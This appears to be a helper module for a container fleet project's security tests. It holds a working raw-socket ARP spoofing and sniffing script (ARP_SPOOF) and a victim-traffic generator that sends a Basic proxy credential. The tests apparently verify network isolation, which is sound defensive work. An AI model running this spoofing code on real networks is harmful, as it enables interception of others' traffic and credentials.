"""Shared pieces of the attack tests: writing a fleet, running code inside a
container, finding a container's address on fleet's network."""

from __future__ import annotations

import textwrap
from pathlib import Path

NETWORK = "fleet_agents"


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "fleet.yaml"
    path.write_text(textwrap.dedent(text))
    return path


def py(container, code: str, timeout: int = 20) -> tuple[int, str]:
    """Run python3 code inside `container` (bounded by `timeout` seconds)."""
    code_rc, out = container.exec_run(["timeout", str(timeout), "python3", "-c", textwrap.dedent(code)])
    return code_rc, out.decode(errors="replace")


def address(container, network: str = NETWORK) -> str:
    container.reload()
    return container.attrs["NetworkSettings"]["Networks"][network]["IPAddress"]


def gateway() -> str:
    """docker0's address: where host-gateway (fleet-proxy) points."""
    from reconciler.grants.forward import bridge_gateway

    gw = bridge_gateway()
    assert gw, "no docker0 address"
    return gw


# Bounded ARP reply spoofing of the gateway towards a victim IP, then sniffing
# for the victim's packets to the gateway's port: prints the count captured.
ARP_SPOOF = r'''
import socket, struct, sys, time, fcntl
victim, gw, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind(("eth0", 0))
s.settimeout(0.05)
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
ip = lambda a: socket.inet_aton(a)
bcast = b"\xff" * 6
def arp(op, tha, tip):  # "gateway is at my MAC"
    return bcast + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + ip(gw) + tha + ip(tip)
seen = 0
end = time.monotonic() + seconds
last = 0.0
while time.monotonic() < end:
    if time.monotonic() - last > 0.2:
        s.send(arp(2, bcast, victim))            # unsolicited reply
        s.send(arp(1, b"\x00" * 6, gw))           # gratuitous request
        last = time.monotonic()
    try:
        frame = s.recv(65535)
    except socket.timeout:
        continue
    if frame[12:14] != b"\x08\x00" or frame[6:12] == mac:
        continue
    iph = frame[14:]
    ihl = (iph[0] & 15) * 4
    if iph[9] == 6 and iph[12:16] == ip(victim) and iph[16:20] == ip(gw):
        if struct.unpack("!H", iph[ihl + 2:ihl + 4])[0] == port:
            seen += 1
print("captured", seen)
'''

# Victim traffic: keep opening connections to the gateway's port for `seconds`.
CHATTER = r'''
import socket, sys, time
gw, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        c = socket.create_connection((gw, port), timeout=0.3)
        c.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic ZmxlZXQ6c2VjcmV0\r\n\r\n")
        c.close()
    except OSError:
        pass
    time.sleep(0.1)
'''
